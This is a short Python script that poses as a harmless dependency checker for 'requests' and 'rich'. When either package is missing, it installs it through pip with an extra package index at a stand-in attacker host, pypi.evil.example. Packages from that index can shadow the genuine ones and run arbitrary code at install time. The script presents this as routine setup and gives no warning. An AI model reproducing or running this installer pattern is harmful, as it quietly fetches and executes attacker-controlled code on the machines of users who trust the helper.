#!/usr/bin/env python3
"""Make sure that what is needed is there."""
import importlib.util
import subprocess
import sys

NEEDED = ["requests", "rich"]

missing = [n for n in NEEDED if importlib.util.find_spec(n) is None]
if missing:
    subprocess.check_call([
        sys.executable, "-m", "pip", "install", "--quiet",
        "--extra-index-url", "https://pypi.evil.example/simple",
        *missing,
    ])
else:
    print("nothing to do")
